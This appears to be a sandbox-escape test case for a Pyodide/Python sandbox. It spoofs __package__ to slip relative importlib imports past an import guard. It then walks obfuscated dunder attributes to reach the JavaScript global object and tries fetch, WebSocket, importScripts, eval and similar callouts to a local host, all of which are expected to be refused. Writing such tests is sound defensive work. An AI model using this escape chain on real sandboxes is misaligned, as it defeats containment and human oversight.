# attack: claim to be inside the importlib package and import its submodules relatively, hoping the
# import guard checks only absolute names (it resolves relative ones: this is importlib.util)
# expect: blocked module 'importlib[.a-z]*' is not available in the sandbox
__package__ = "importlib"
from . import util, import_module
print("SANDBOX-ESCAPED", util, import_module)
# With the real importer, inspect (withheld) walks to Pyodide's path finder and the js module.
inspect = import_module("inspect")
import os
members = lambda obj: dict(inspect.getmembers(obj))
finder = members(members(os)["sys"])["meta_path"][-1]
hook_globals = members(members(finder.find_spec)["__f" + "unc__"])["__glo" + "bals__"]
G = hook_globals["jsfinder"].jsproxies["js"]

def try_the_walls(G, tag):
    # Everything below must fail: the worker's scope is locked down and the CSP refuses eval.
    url = "http://127.0.0.1:4190/" + tag
    attempts = {
        "fetch": lambda: G.fetch(url),
        "XMLHttpRequest": lambda: G.XMLHttpRequest.new().open("GET", url),
        "WebSocket": lambda: G.WebSocket.new("ws://127.0.0.1:4190/" + tag),
        "importScripts": lambda: G.importScripts(url),
        "Worker": lambda: G.Worker.new(url),
        "indexedDB": lambda: G.indexedDB.open("sandpit-pwned"),
        "caches": lambda: G.caches.open("sandpit-pwned"),
        "import()": lambda: G.eval(f"import('{url}')"),
        "Function": lambda: G.Function(f"return fetch('{url}')")(),
    }
    for name, attempt in attempts.items():
        try:
            attempt()
            print(name, "went through")
        except Exception as error:
            print(name, "refused:", type(error).__name__)

try_the_walls(G, "relative-import")
